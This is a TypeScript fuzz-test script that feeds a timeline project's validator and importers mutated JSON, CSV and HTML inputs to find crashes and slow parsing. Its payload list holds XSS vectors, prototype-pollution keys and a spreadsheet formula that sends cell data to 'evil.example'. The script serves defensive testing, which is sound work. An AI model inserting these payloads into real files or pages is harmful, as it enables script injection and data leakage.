/**
 * `npm run fuzz -- --runs 10000 [--seed 1]`: feeds the validator and every importer generated
 * and mutated inputs — Dateline JSON, TimelineJS JSON, both CSV layouts, HTML fragments — with
 * the shapes that once hurt: long runs of spaces, reserved names, deep nesting, many quotes,
 * many tags, repeated keys, invalid bytes turned into U+FFFD. It asks for 0 crashes, 0 errors
 * without a line, and no input over 1 MB taking more than 2 s. Each failing input is written to
 * test/fixtures/broken/fuzz/ (the regression test replays them); exit 1 if any.
 *
 * Not part of `npm test`: 10,000 runs take a few minutes.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { parseArgs } from 'node:util';
import { mulberry32 } from '../support/generate';
import { generateTimelineInput } from '../support/generate-input';
import { toDatelineCsv } from '../../src/import/dateline-csv';
import { check, EXTENSION, type Kind } from './targets';

const { values } = parseArgs({
  options: { runs: { type: 'string', default: '1000' }, seed: { type: 'string', default: '1' } },
});
const RUNS = Number(values.runs);
const random = mulberry32(Number(values.seed));
const int = (n: number) => Math.floor(random() * n);
const pick = <T>(items: readonly T[]): T => items[int(items.length)]!;
/** Small most of the time, sometimes medium, rarely large: big inputs are slow to make too. */
const sized = <T>(small: T, medium: T, large: T): T => {
  const r = random();
  return r < 0.9 ? small : r < 0.98 ? medium : large;
};
const OUT = 'test/fixtures/broken/fuzz';
const BIG = 1024 * 1024;
/** Inputs are cut to this size: the time limit is about files a newsroom has, a few MB. */
const MAX_BYTES = 4 * BIG;
const SLOW_MS = 2000;

const read = (path: string) => readFileSync(path, 'utf8');
const SEED_JSON = read('data/nato-china-2023.json');
const SEED_CSV = read('data/nato-china-2023.csv');
const TJ_JSON = read('test/fixtures/import/timelinejs-sample.json');
const TJ_HOSTILE = read('test/fixtures/import/timelinejs-hostile.json');
const TJ_CSV = read('test/fixtures/import/timelinejs-sample.csv');
const TJ_BROKEN = read('test/fixtures/import/timelinejs-broken.csv');

const RESERVED = [
  'constructor',
  'prototype',
  '__proto__',
  'toString',
  'hasOwnProperty',
  'Constructor',
  'valueOf',
];
const spaces = () => ' '.repeat(sized(pick([1, 10, 1000]), 50_000, 300_000));
const PAYLOADS: (() => string)[] = [
  () => pick(RESERVED),
  () => `<${pick(RESERVED)}>x</${pick(RESERVED)}>`,
  () => `<svg/onload=alert(1)>`,
  () => `<img/src=x/onerror=alert(1)>`,
  () => `<a href="http://x.example/${spaces()}a">t</a>`,
  () => '<svg></svg>'.repeat(sized(10, 1000, 100_000)),
  () => `<pre>${spaces()}x</pre>`,
  () => `<blockquote>w<cite>a${spaces()}b</cite></blockquote>`,
  () => '<b>'.repeat(sized(10, 600, 100_000)),
  () => `1${spaces()}pm`,
  () => spaces(),
  () => '"'.repeat(pick([1, 3, 1000])),
  () => '=HYPERLINK("https://evil.example/?"&A1)',
  () => '-0043-03-15',
  () => '\uFFFD\u0000\u0007\u202E',
  () => '&lang;&amp&eacute&#0;&#x110000;',
  () => '<!-- x',
  () => 'x'.repeat(sized(100, 10_000, 1_000_000)),
];
const payload = () => pick(PAYLOADS)();

/** A random edit of `text`: insert, delete, duplicate, or put a payload somewhere. */
function mutate(text: string): string {
  const at = int(text.length + 1);
  switch (int(6)) {
    case 0:
      return (
        text.slice(0, at) +
        pick(['"', '{', '}', '[', ']', ',', ':', '\\', '\n', '<', '>', ';', '\u00e9']) +
        text.slice(at)
      );
    case 1:
      return text.slice(0, at) + text.slice(at + int(40));
    case 2: {
      const span = text.slice(at, at + int(200));
      return text.slice(0, at) + span + span + text.slice(at);
    }
    case 3:
      return text.slice(0, at);
    default: {
      // A payload inside a JSON string or a CSV cell: after a quote or a comma, if one is near.
      const quote = text.indexOf(pick(['"', ',']), at);
      const where = quote < 0 ? at : quote + 1;
      return text.slice(0, where) + payload() + text.slice(where);
    }
  }
}

/** A JSON text with the payload as a value or a key, deep nesting, many quotes or repeats. */
function generatedJson(): string {
  switch (int(6)) {
    case 0: {
      const depth = sized(10, 1000, 100_000);
      return `{"version":1,"title":"T","events":[${'['.repeat(depth)}${']'.repeat(depth)}]}`;
    }
    case 1: {
      const n = sized(10, 1000, 30_000);
      const quotes = Array.from({ length: n }, (_, i) => ({ text: `q${i}`, by: 'a' }));
      return JSON.stringify({
        version: 1,
        title: 'T',
        people: { a: { name: 'A' } },
        events: [{ id: 'e', date: '2020', title: 't', quotes }],
      });
    }
    case 2: {
      const key = pick(RESERVED);
      return `{"version":1,"title":"T","people":{"${key}":{"name":"${payload().slice(0, 5000).replace(/["\\]/g, '')}"}},"events":[{"id":"e","date":"2020","title":"t","people":["${key}"]}]}`;
    }
    case 3:
      return '{"version":1,"title":"a","title":"b","events":[{"id":"e","date":"2020","title":"x","title":"y"}]}';
    case 4:
      return JSON.stringify(
        generateTimelineInput(sized(10, 500, 3000), int(1000)),
        null,
        pick([0, 2]),
      );
    default:
      return JSON.stringify({
        version: 1,
        title: payload(),
        events: [{ id: 'e', date: payload().slice(0, 100), title: payload() }],
      });
  }
}

function input(kind: Kind): string {
  const generated = random() < 0.3;
  switch (kind) {
    case 'json':
      return generated ? generatedJson() : mutate(random() < 0.5 ? SEED_JSON : generatedJson());
    case 'timelinejs-json': {
      if (!generated) return mutate(pick([TJ_JSON, TJ_HOSTILE]));
      const events = Array.from({ length: sized(1, 10, 2000) }, () => ({
        start_date: {
          year: pick([2020, '2021', payload().slice(0, 20)]),
          month: pick([1, 13, '']),
        },
        text: { headline: payload().slice(0, 2000), text: payload().slice(0, 20_000) },
        group: pick([...RESERVED, 'NATO', payload().slice(0, 50)]),
        unique_id: pick([...RESERVED, 'a', 'a']),
      }));
      return JSON.stringify({ title: { text: { headline: payload().slice(0, 100) } }, events });
    }
    case 'timelinejs-csv': {
      if (!generated) return mutate(pick([TJ_CSV, TJ_BROKEN]));
      const rows = ['Year,Month,Day,Time,Headline,Text,Group,Type'];
      const n = sized(1, 100, 20_000);
      // One huge row, or many small ones: a few MB at most either way.
      const size = Math.floor(1_200_000 / n);
      for (let i = 0; i < n; i++) {
        const cell = () => `"${payload().slice(0, size).replace(/"/g, '""')}"`;
        rows.push(
          [
            pick(['2020', '']),
            pick(['1', '13']),
            '1',
            cell(),
            cell(),
            cell(),
            pick(RESERVED),
            '',
          ].join(','),
        );
      }
      return rows.join('\n');
    }
    case 'dateline-csv': {
      if (!generated)
        return mutate(
          random() < 0.5 ? SEED_CSV : toDatelineCsv(generateTimelineInput(50, int(100))),
        );
      const rows = ['kind,id,date,title,name,by,text', 'timeline,,,T,,,'];
      const n = sized(1, 100, 20_000);
      const size = Math.floor(1_200_000 / n);
      for (let i = 0; i < n; i++) {
        const id = pick([...RESERVED, `p${i}`]);
        rows.push(`person,${id},,,"${payload().slice(0, size).replace(/"/g, '""')}",,`);
        rows.push(
          `event,e${i},${pick([
            '2020',
            '2020-13-01',
            '-0043-03-15',
            payload()
              .slice(0, 20)
              .replace(/[",\n]/g, ''),
          ])},E,stray,,`,
        );
        rows.push(`quote,,,,,${id},"${payload().slice(0, size).replace(/"/g, '""')}"`);
      }
      return rows.join('\n');
    }
    case 'html':
      return generated
        ? Array.from({ length: int(5) + 1 }, payload).join(pick(['', ' ', '<p>']))
        : mutate(TJ_HOSTILE);
  }
}

const KINDS: Kind[] = ['json', 'timelinejs-json', 'timelinejs-csv', 'dateline-csv', 'html'];
let crashes = 0;
let unlocated = 0;
let slow = 0;
let big = 0;
let slowest = { ms: 0, kind: '', bytes: 0 };
const started = performance.now();
mkdirSync(OUT, { recursive: true });

function keep(kind: Kind, text: string, why: string): void {
  const hash = createHash('sha256').update(text).digest('hex').slice(0, 12);
  const file = `${OUT}/${kind}-${hash}.${EXTENSION[kind]}`;
  writeFileSync(file, text);
  console.log(`  ${why}: ${file}`);
}

for (let run = 0; run < RUNS; run++) {
  const kind = KINDS[run % KINDS.length]!;
  const text = input(kind).slice(0, MAX_BYTES);
  const bytes = Buffer.byteLength(text);
  const outcome = check(kind, text);
  if (bytes > BIG) big++;
  if (outcome.ms > slowest.ms) slowest = { ms: outcome.ms, kind, bytes };
  if (outcome.crash) {
    crashes++;
    keep(kind, text, `crash (${outcome.crash.split('\n')[0]})`);
  } else if (outcome.unlocated.length > 0) {
    unlocated++;
    keep(
      kind,
      text,
      `unlocated error (${outcome.unlocated[0]!.path} ${outcome.unlocated[0]!.message.slice(0, 80)})`,
    );
  } else if (bytes > BIG && outcome.ms > SLOW_MS) {
    slow++;
    keep(kind, text, `slow: ${(bytes / BIG).toFixed(1)} MB in ${outcome.ms.toFixed(0)} ms`);
  }
  if ((run + 1) % 1000 === 0) console.log(`${run + 1} runs…`);
}

const seconds = ((performance.now() - started) / 1000).toFixed(0);
console.log(
  `${RUNS} inputs (${big} over 1 MB) in ${seconds} s: ${crashes} crashes, ${unlocated} unlocated ` +
    `errors, ${slow} inputs over 1 MB slower than 2 s; slowest ${slowest.ms.toFixed(0)} ms ` +
    `(${slowest.kind}, ${(slowest.bytes / BIG).toFixed(2)} MB)`,
);
process.exitCode = crashes + unlocated + slow > 0 ? 1 : 0;
